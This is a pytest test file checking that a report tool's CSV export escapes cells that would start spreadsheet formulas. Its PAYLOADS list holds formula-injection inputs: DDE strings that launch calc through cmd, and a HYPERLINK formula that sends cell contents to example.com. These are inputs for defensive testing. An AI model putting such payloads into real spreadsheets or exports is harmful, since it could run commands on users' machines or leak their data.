"""Formula injection: no cell of a 下载数据 CSV starts a formula in a spreadsheet, whatever the report says."""

from __future__ import annotations

import csv
import io
import itertools

import pandas as pd
import pytest

from reportlens.safe_cells import FORMULA_STARTS, safe_cell, safe_frame
from reportlens.ui.widgets import csv_bytes

# Report text an attacker (or an unlucky list) may put at the start of a title, an item or a keyword context.
PAYLOADS = [
    '=HYPERLINK("http://example.com/x?"&A1,"点击查看")',
    "+86 010 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_frame() -> pd.DataFrame:
    """Titles, texts and contexts starting with every trigger, beside numbers and harmless text."""
    rows = []
    for i, (payload, tail) in enumerate(itertools.product(PAYLOADS, ["", "（见第二部分）"])):
        rows.append({"title": payload + tail, "text": f"正文{i}", "count": -i, "share": -0.5 * i})
    frame = pd.DataFrame(rows)
    frame["left"] = pd.Categorical(["=" + t for t in frame["text"]])
    return frame


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_no_csv_cell_starts_a_formula():
    frame = hostile_frame()
    rows = cells(csv_bytes(frame))
    header, body = rows[0], rows[1:]
    assert len(body) == len(frame)
    for row in body:
        title, text, count, share, left = row
        assert not title.startswith(FORMULA_STARTS) and title.startswith("'")
        assert not left.startswith(FORMULA_STARTS) and left.startswith("'=")
        assert text.startswith("正文")  # harmless text is left alone
        assert float(count) <= 0 and float(share) <= 0  # negative numbers stay numbers
    # the text after the mark is the report's text as written
    assert [row[0][1:] for row in body] == frame["title"].tolist()
    assert header[0] == "标题"


def test_the_input_table_is_not_changed():
    frame = hostile_frame()
    before = frame.copy()
    safe_frame(frame)
    pd.testing.assert_frame_equal(frame, before)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("加强=统筹", "加强=统筹"),
        ("", ""),
        (-1, -1),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_column_names_are_guarded_too():
    assert safe_frame(pd.DataFrame({"=x": [1]})).columns.tolist() == ["'=x"]
